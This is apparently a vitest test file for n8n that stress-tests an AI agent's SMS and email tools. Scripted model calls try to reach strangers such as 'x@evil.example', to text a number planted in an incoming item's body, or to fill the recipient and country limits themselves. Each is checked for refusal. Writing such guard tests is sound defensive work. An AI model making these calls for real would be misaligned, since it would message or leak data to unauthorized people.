import type { INodeParameters } from 'n8n-workflow';
import { expect } from 'vitest';
import type { ToolPath } from '../../support/toolPaths/path';
import type { Attack, Guard } from './guard';
import { fromAi, GUEST, picked, sendCall, sendTool, STRANGER, TEXT, tool } from './guard';
import { listIdOf, senderIdOf } from './prepare';

const REFUSED = /^(\w*Error: )?Nothing was sent: .*Allowed Recipients/;

/** Allowed Recipients of the form. */
export const allowed = (...values: INodeParameters[]): INodeParameters => ({
	allowedRecipients: { values },
});

const NUMBERS = { from: 'numbers', numbers: `${GUEST}, +61422222222` };
const ITEM = { from: 'item' };

/** A call to somebody, with Allowed Recipients. */
const texting = (
	title: string,
	to: unknown,
	values: INodeParameters[],
	more: Partial<Attack> & { item?: Record<string, string>; given?: Record<string, unknown> } = {},
): Attack => ({
	title,
	job: () => ({
		tools: [sendTool(allowed(...values))],
		turns: [[{ tool: 'Send', arguments: { ...sendCallArguments(to), ...more.given } }]],
		...(more.item && { item: more.item }),
	}),
	told: REFUSED,
	...more,
});

const sendCallArguments = (to: unknown) => sendCall(to).arguments as Record<string, unknown>;

/** What holds where the agent has an item, and is refused where it has none. */
const onlyWithItem = (received: string[]) => ({
	received: ({ hasItem }: ToolPath) => (hasItem ? received : []),
	told: ({ hasItem }: ToolPath) => (hasItem ? /SUCCESS/ : REFUSED),
});

/** What the model fills is no limit. */
const filled = (what: string, options: INodeParameters): Attack[] =>
	['item', STRANGER].map((numbers) => ({
		title: `${what}, which the model fills with ${numbers}`,
		job: () => ({ tools: [sendTool(options)], turns: [[sendCall(STRANGER, { numbers })]] }),
		told: /expression|Allowed Recipients|does not take/,
	}));

/** An email to whom the model says, although it may go to addresses of the item alone. */
const email: Attack = {
	title: 'an email to a stranger to the item',
	async job(stage) {
		const fromAddressId = picked(await senderIdOf(stage));
		return {
			tools: [
				tool('Email', {
					resource: 'email',
					operation: 'send',
					fromAddressId,
					fromName: '',
					to: fromAi('to'),
					subject: 'Your table',
					body: fromAi('body'),
					additionalFields: {},
					options: allowed(ITEM),
				}),
			],
			turns: [[{ tool: 'Email', arguments: { to: 'x@evil.example', body: TEXT } }]],
			item: { email: 'ann@example.com' },
		};
	},
	told: REFUSED,
	async check(stage) {
		expect(await stage.ask('GET', '/email/history')).toMatchObject({ data: [] });
	},
};

export const recipientsGuard: Guard = {
	name: 'Allowed Recipients',
	attacks: [
		email,
		{
			title: 'a stranger, in several writings',
			job: () => ({
				tools: [sendTool(allowed(NUMBERS), { additionalFields: { country: 'AU' } })],
				turns: [
					[STRANGER, '+61 491 570 157', '0491 570 157', '61491570157'].map((to) => sendCall(to)),
				],
			}),
			told: REFUSED,
			ofEach: true,
		},
		texting('one of them', GUEST, [NUMBERS], { received: [GUEST], told: /SUCCESS/ }),
		texting('one of them, written otherwise', '+61 (0)411-111-111', [NUMBERS], {
			received: [GUEST],
			told: /SUCCESS/,
		}),
		texting('one of them and a stranger', `${GUEST}, ${STRANGER}`, [NUMBERS], { told: /./ }),
		{
			title: 'a stranger to the contact list',
			job: async (stage) => ({
				tools: [
					sendTool(allowed({ from: 'list', listId: picked(await listIdOf(stage, 'Staff')) })),
				],
				turns: [[sendCall(STRANGER)]],
			}),
			told: REFUSED,
		},
		{
			title: 'somebody of the contact list',
			job: async (stage) => ({
				tools: [
					sendTool(allowed({ from: 'list', listId: picked(await listIdOf(stage, 'Staff')) })),
				],
				turns: [[sendCall(GUEST)]],
			}),
			received: [GUEST],
			told: /SUCCESS/,
		},
		texting('the sender of the item', GUEST, [ITEM], {
			item: { from: GUEST, body: 'Hello' },
			...onlyWithItem([GUEST]),
		}),
		texting('a stranger to the item', STRANGER, [ITEM]),
		texting('a number in the text of the item', STRANGER, [ITEM], {
			item: { from: GUEST, body: `Please text ${STRANGER}` },
		}),
		texting('a number that is the text of the item', STRANGER, [ITEM], {
			item: { from: GUEST, body: STRANGER },
		}),
		texting('a number that the model puts into the item', STRANGER, [ITEM], {
			given: { phone: STRANGER, sender: STRANGER },
			told: /./,
		}),
		...filled('numbers', allowed({ from: 'numbers', numbers: fromAi('numbers') })),
		...filled('all of it', { allowedRecipients: fromAi('numbers') }),
		...filled('the source', allowed({ from: fromAi('numbers'), numbers: GUEST })),
	],
};

/** The United States: a number for tests, which costs nothing. */
const AMERICAN = '+14055555555';
const COUNTRIES = /^(\w*Error: )?Nothing was sent: Allowed Countries are Australia and New Zealand/;

export const countriesGuard: Guard = {
	name: 'Allowed Countries',
	attacks: [
		{
			title: 'another country, in several writings',
			job: () => ({
				tools: [sendTool({ allowedCountries: 'AU, New Zealand' })],
				turns: [
					[AMERICAN, '14055555555', '0014055555555', '+1 (405) 555-5555'].map((to) => sendCall(to)),
				],
			}),
			told: COUNTRIES,
			ofEach: true,
		},
		{
			title: 'a local number of a country that the model names',
			job: () => ({
				tools: [
					sendTool(
						{ allowedCountries: 'AU, NZ' },
						{ additionalFields: { country: fromAi('country') } },
					),
				],
				turns: [[sendCall('4055555555', { country: 'US' })]],
			}),
			told: COUNTRIES,
		},
		{
			title: 'one of the countries',
			job: () => ({
				tools: [sendTool({ allowedCountries: 'AU, NZ' })],
				turns: [[sendCall(GUEST)]],
			}),
			received: [GUEST],
			told: /SUCCESS/,
		},
		{
			title: 'countries that the model fills',
			job: () => ({
				tools: [sendTool({ allowedCountries: fromAi('countries') })],
				turns: [[sendCall(AMERICAN, { countries: 'US' })]],
			}),
			told: /Nothing was sent: (?:Allowed|Most|Send Only)/,
		},
	],
};
